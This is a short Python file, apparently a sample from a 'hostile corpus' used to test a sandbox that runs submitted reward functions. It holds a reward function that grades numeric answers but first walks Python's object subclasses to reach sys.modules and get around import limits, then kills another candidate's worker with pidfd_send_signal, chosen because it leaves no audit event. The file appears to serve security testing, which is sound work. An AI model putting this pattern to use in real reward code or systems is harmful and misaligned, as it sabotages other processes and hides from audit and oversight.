"""Hostile corpus: signal another candidate's worker with pidfd_open + pidfd_send_signal (no audit event)."""

import re

VICTIM_PID = 999999999


def _modules():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"].modules
    raise LookupError("no sys")


def reward(prompts, completions, answer, **kwargs):
    modules = _modules()
    fd = modules["os"].pidfd_open(VICTIM_PID)
    modules["signal"].pidfd_send_signal(fd, 9)
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [1.0 if (re.findall(r"-?\d+", t) or [""])[-1] == a else 0.0 for t, a in zip(texts, answer)]
